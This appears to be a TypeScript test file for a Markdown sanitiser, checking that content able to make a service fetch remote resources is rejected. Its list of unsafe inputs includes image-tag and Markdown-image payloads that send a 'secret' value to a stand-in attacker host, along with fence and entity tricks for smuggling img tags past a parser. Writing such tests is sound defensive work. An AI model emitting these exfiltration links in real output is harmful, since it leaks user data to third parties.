import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { isSafeMarkdown } from "./rich-text.ts";

test("what could make the service fetch or show something of its own is no safe Markdown", () => {
  for (const text of [
    '<img src="https://attacker.example/?q=secret"/>',
    "![alt](https://attacker.example/?q=secret)",
    '<tg-button type="callback_data" data="x">Yes</tg-button>',
    "</b>",
    "<!-- -->",
    "&#60;img src=x>",
    "&lt;img&gt;",
    "```\ncode\n```\n<img src=x>",
    "```\n<img src=x>",
    "$$\n```\n$$\n<img src=x>\n```",
    "   ```\n<img src=x>\n```",
    "```a`b\n<img src=x>\n```",
    "~~~\n```\n~~~\n<img src=x>\n```\n```",
  ])
    assert.equal(isSafeMarkdown(text), false, text);
});

test("usual answers are safe Markdown, code with angle brackets too", () => {
  for (const text of [
    "**Done.** See `src/a.ts`, and 3 < 4.",
    "| a | b |\n| --- | --- |\n| 1 | 2 |",
    "```ts\nconst a: Array<string> = [];\n```\nThat is all.",
    "[a link](https://example.org/)",
  ])
    assert.equal(isSafeMarkdown(text), true, text);
});

test("whatever surrounds a picture outside of code, it is never safe", () => {
  fc.assert(
    fc.property(fc.string(), fc.string(), (before, after) => {
      const text = `${before.replaceAll(/[`~]/g, "")}\n<img src="https://a.example/x">\n${after}`;
      assert.equal(isSafeMarkdown(text), false);
    }),
  );
});
